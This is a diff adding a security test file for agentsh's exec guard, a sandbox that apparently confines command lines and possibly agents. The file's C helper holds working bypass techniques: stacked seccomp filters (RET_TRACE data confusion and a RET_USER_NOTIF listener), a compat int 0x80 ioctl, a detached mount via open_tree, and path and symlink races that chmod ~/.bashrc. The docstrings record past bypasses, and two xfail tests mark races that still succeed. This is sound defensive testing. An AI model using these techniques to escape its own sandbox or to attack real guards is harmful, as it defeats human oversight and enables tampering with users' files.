@@ -1,0 +1,298 @@
+"""Red team of the exec guard's file-metadata check (agentsh/guard/metadata.py), confined mode.
+
+Each test runs a small C program under the guard and checks the outcome on disk: the mode
+or the inode flags of a file outside the write roots must not change.  The program is
+compiled once per session with gcc (skipped where there is none).
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from agentsh.guard.doctor import probe_exec_guard
+from tests.conftest import write_profile
+
+Run = Callable[..., subprocess.CompletedProcess[str]]
+pytestmark = [pytest.mark.skipif(not probe_exec_guard().active, reason="no exec guard here (ptrace unavailable)"),
+              pytest.mark.skipif(shutil.which("gcc") is None, reason="no C compiler")]
+
+PROFILE = """\
+agentsh: 1
+name: mdred
+extends: [base]
+path: [{py_bin}, /usr/local/bin, /usr/bin, /bin, {helper_dir}]
+write: {{allow: ["{{workspace}}"]}}
+commands:
+  - {{name: helper, run: mdred, decision: allow}}
+"""
+
+# One program, one attack per mode; each prints what its calls returned (0 or an errno).
+HELPER = r"""
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/filter.h>
+#include <linux/seccomp.h>
+#include <pthread.h>
+#include <sched.h>
+#include <signal.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#define RESULT(r) ((r) < 0 ? errno : 0)
+
+/* A filter of the line's own for chmod, stacked over agentsh's. */
+static int own_filter(unsigned action, unsigned flags) {
+    struct sock_filter f[] = {
+        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_chmod, 0, 1),
+        BPF_STMT(BPF_RET | BPF_K, action),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+    };
+    struct sock_fprog prog = {4, f};
+    return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
+}
+
+static int listener;
+static void *answer_continue(void *unused) {
+    struct seccomp_notif req;
+    struct seccomp_notif_resp resp;
+    (void)unused;
+    memset(&req, 0, sizeof req);
+    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) return NULL;
+    memset(&resp, 0, sizeof resp);
+    resp.id = req.id;
+    resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
+    ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
+    return NULL;
+}
+
+static int send_fd(int sock, int fd) {
+    char byte = 0, control[CMSG_SPACE(sizeof(int))];
+    struct iovec io = {&byte, 1};
+    struct msghdr msg = {0};
+    memset(control, 0, sizeof control);
+    msg.msg_iov = &io; msg.msg_iovlen = 1; msg.msg_control = control; msg.msg_controllen = sizeof control;
+    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+    c->cmsg_level = SOL_SOCKET; c->cmsg_type = SCM_RIGHTS; c->cmsg_len = CMSG_LEN(sizeof(int));
+    memcpy(CMSG_DATA(c), &fd, sizeof(int));
+    return sendmsg(sock, &msg, 0);
+}
+
+static int receive_fd(int sock) {
+    char byte, control[CMSG_SPACE(sizeof(int))];
+    struct iovec io = {&byte, 1};
+    struct msghdr msg = {0};
+    int fd;
+    msg.msg_iov = &io; msg.msg_iovlen = 1; msg.msg_control = control; msg.msg_controllen = sizeof control;
+    if (recvmsg(sock, &msg, 0) <= 0 || !CMSG_FIRSTHDR(&msg)) return -1;
+    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&msg)), sizeof(int));
+    return fd;
+}
+
+struct flip { volatile uint32_t *word; uint32_t a, b; volatile int stop; };
+static void *flipper(void *arg) {
+    struct flip *f = arg;
+    while (!f->stop) { *f->word = f->a; *f->word = f->b; }
+    return NULL;
+}
+
+static int changed(const char *path) {
+    struct stat st;
+    return stat(path, &st) == 0 && (st.st_mode & 0777) == 0666;
+}
+
+int main(int argc, char **argv) {
+    const char *mode = argv[1], *outside = argv[2];
+    if (!strcmp(mode, "trace-data") && argc == 4) {
+        /* Its own RET_TRACE for chmod says "a descriptor in args[0]"; the path's address is
+           chosen so that its low 32 bits are 5, the descriptor of a workspace file. */
+        dup2(open(argv[3], O_RDONLY), 5);
+        char *page = mmap((void *)0x7f1200000000, 4096, PROT_READ | PROT_WRITE,
+                          MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
+        if (page == MAP_FAILED) { printf("mmap %d\n", errno); return 1; }
+        strcpy(page + 5, outside);
+        printf("filter %d\n", RESULT(own_filter(SECCOMP_RET_TRACE | 3, 0)));
+        printf("chmod %d\n", RESULT(syscall(SYS_chmod, page + 5, 0666)));
+        return 0;
+    }
+    if (!strcmp(mode, "listener")) {
+        /* Its own RET_USER_NOTIF for chmod, answered "continue" by a thread: that action takes
+           precedence over agentsh's RET_TRACE, so the guard never sees the call. */
+        listener = own_filter(SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER);
+        printf("filter %d\n", RESULT(listener));
+        if (listener < 0) return 0;
+        pthread_t t;
+        pthread_create(&t, NULL, answer_continue, NULL);
+        printf("chmod %d\n", RESULT(syscall(SYS_chmod, outside, 0666)));
+        pthread_join(t, NULL);
+        return 0;
+    }
+#ifdef __x86_64__
+    if (!strcmp(mode, "i386-setflags")) {
+        /* A 64-bit process's int 0x80 ioctl with the 64-bit FS_IOC_SETFLAGS number: the
+           compat ioctl passes it on to the same code as the native one. */
+        int fd = open(outside, O_RDONLY);
+        unsigned *flags = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+        if (ioctl(fd, 0x80086601 /* FS_IOC_GETFLAGS */, flags) != 0) { printf("getflags %d\n", errno); return 0; }
+        *flags |= 0x80;  /* FS_NOATIME_FL, chattr +A */
+        long r;
+        __asm__ volatile("push %%rbx\n mov %1, %%ebx\n int $0x80\n pop %%rbx"
+                         : "=a"(r) : "r"(fd), "a"(54), "c"(0x40086602), "d"((unsigned)(uintptr_t)flags) : "memory");
+        printf("ioctl %ld\n", -r);
+        return 0;
+    }
+#endif
+    if (!strcmp(mode, "detached") && argc == 4) {
+        /* A child in a user and mount namespace of its own clones the tree `outside` (a
+           detached mount) and hands it over; in the clone, argv[3] is named as if it were
+           that path from /. */
+        int pair[2];
+        socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
+        pid_t child = fork();
+        if (child == 0) {
+            if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) { printf("unshare %d\n", errno); _exit(0); }
+            int tree = syscall(SYS_open_tree, AT_FDCWD, outside, 1 /* OPEN_TREE_CLONE */ | 0x8000 /* AT_RECURSIVE */);
+            if (tree < 0) { printf("open_tree %d\n", errno); _exit(0); }
+            printf("own-namespace-chmod %d\n", RESULT(syscall(SYS_fchmodat, tree, argv[3], 0666)));
+            fflush(stdout);
+            send_fd(pair[0], tree);
+            _exit(0);
+        }
+        int tree = receive_fd(pair[1]);
+        waitpid(child, NULL, 0);
+        if (tree < 0) return 0;
+        printf("chmod %d\n", RESULT(syscall(SYS_fchmodat, tree, argv[3], 0666)));
+        int fd = openat(tree, argv[3], O_RDONLY);
+        printf("fchmod %d\n", RESULT(fchmod(fd, 0666)));
+        return 0;
+    }
+    if (!strcmp(mode, "path-race") && argc == 5) {
+        /* A thread rewrites the path between the guard's read and the kernel's: `outside`
+           and argv[3] (in the workspace) have the same length and differ in four bytes. */
+        static char path[4096];
+        const char *inside = argv[3];
+        size_t at = 0;
+        while (outside[at] == inside[at]) at++;
+        strcpy(path, inside);
+        struct flip f = {(volatile uint32_t *)(path + at), 0, 0, 0};
+        memcpy(&f.a, outside + at, 4); memcpy(&f.b, inside + at, 4);
+        pthread_t t;
+        pthread_create(&t, NULL, flipper, &f);
+        int tries, most = atoi(argv[4]);
+        for (tries = 1; tries <= most && !changed(outside); tries++) syscall(SYS_chmod, path, 0666);
+        f.stop = 1;
+        pthread_join(t, NULL);
+        printf("tries %d\n", changed(outside) ? tries - 1 : -1);
+        return 0;
+    }
+    if (!strcmp(mode, "link-race") && argc == 4) {
+        /* Another process swaps ./swap between a file and a link to `outside`. */
+        symlink(outside, "swap.link");
+        close(open("swap", O_CREAT | O_WRONLY, 0600));
+        pid_t child = fork();
+        if (child == 0)
+            for (;;) {
+                symlink(outside, "swap.link"); rename("swap.link", "swap");
+                close(open("swap.file", O_CREAT | O_WRONLY, 0600)); rename("swap.file", "swap");
+            }
+        int tries, most = atoi(argv[3]);
+        for (tries = 1; tries <= most && !changed(outside); tries++) chmod("swap", 0666);
+        kill(child, SIGKILL);
+        waitpid(child, NULL, 0);
+        printf("tries %d\n", changed(outside) ? tries - 1 : -1);
+        return 0;
+    }
+    printf("unknown mode %s\n", mode);
+    return 2;
+}
+"""
+
+
+@pytest.fixture(scope="session")
+def helper_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    directory = tmp_path_factory.mktemp("mdred-bin")
+    source = directory / "mdred.c"
+    source.write_text(HELPER)
+    subprocess.run(["gcc", "-O2", "-pthread", "-o", str(directory / "mdred"), str(source)], check=True)
+    source.unlink()
+    return directory
+
+
+@pytest.fixture
+def profile(tmp_path: Path, helper_dir: Path) -> Path:
+    py_bin = os.path.dirname(os.path.realpath(sys.executable))
+    return write_profile(tmp_path, "mdred", PROFILE.format(py_bin=py_bin, helper_dir=helper_dir))
+
+
+@pytest.fixture
+def outside(home: Path) -> Path:
+    path = home / ".bashrc"
+    path.write_text("# rc\n")
+    path.chmod(0o600)
+    return path
+
+
+def helper(run_agentsh: Run, profile: Path, *args: str) -> dict[str, int]:
+    """Run the helper confined; what each of its calls returned."""
+    result = run_agentsh("-p", str(profile), "-c", " ".join(["mdred", *args]))
+    assert result.returncode == 0, result.stdout + result.stderr
+    return {key: int(value) for key, value in (line.split() for line in result.stdout.splitlines())}
+
+
+def test_a_filter_of_the_lines_own_cannot_say_where_the_target_is(run_agentsh: Run, profile: Path,
+                                                                  outside: Path, workspace: Path) -> None:
+    """Stacked seccomp filters that return the same action: the newest one's data wins, so
+    a line's own RET_TRACE told the guard that chmod's path pointer was a descriptor (the
+    workspace file's), the guard allowed it, and ~/.bashrc became 0666."""
+    got = helper(run_agentsh, profile, "trace-data", str(outside), str(workspace / "README.md"))
+    assert got == {"filter": 0, "chmod": 1}  # EPERM
+    assert outside.stat().st_mode & 0o777 == 0o600
+
+
+def test_a_filter_of_the_lines_own_cannot_answer_for_the_guard(run_agentsh: Run, profile: Path,
+                                                               outside: Path) -> None:
+    """RET_USER_NOTIF takes precedence over RET_TRACE: a line that installed a listener and
+    answered "continue" ran chmod on ~/.bashrc without the guard ever seeing it."""
+    got = helper(run_agentsh, profile, "listener", str(outside))
+    assert got == {"filter": 1}  # the listener is refused (EPERM); no chmod is tried
+    assert outside.stat().st_mode & 0o777 == 0o600
+
+
+@pytest.mark.xfail(strict=True, reason="race: a thread rewrites the path after the guard read it "
+                   "(docs/security-model.md, File metadata, What remains)")
+def test_a_thread_rewriting_the_path_loses_the_race(run_agentsh: Run, profile: Path, outside: Path,
+                                                      tmp_path: Path) -> None:
+    inside = tmp_path / "work" / outside.name
+    inside.parent.mkdir(exist_ok=True)
+    inside.write_text("x\n")
+    # the same length, four bytes apart: "home" and "work"
+    assert len(str(inside)) == len(str(outside))
+    got = helper(run_agentsh, profile, "path-race", str(outside), str(inside), "20000")
+    assert got["tries"] == -1
+    assert outside.stat().st_mode & 0o777 == 0o600
+
+
+@pytest.mark.xfail(strict=True, reason="race: another process swaps a link in the workspace after the "
+                   "guard looked (docs/security-model.md, File metadata, What remains)")
+def test_a_link_swapped_in_the_workspace_loses_the_race(run_agentsh: Run, profile: Path, outside: Path) -> None:
+    got = helper(run_agentsh, profile, "link-race", str(outside), "20000")
+    assert got["tries"] == -1
+    assert outside.stat().st_mode & 0o777 == 0o600
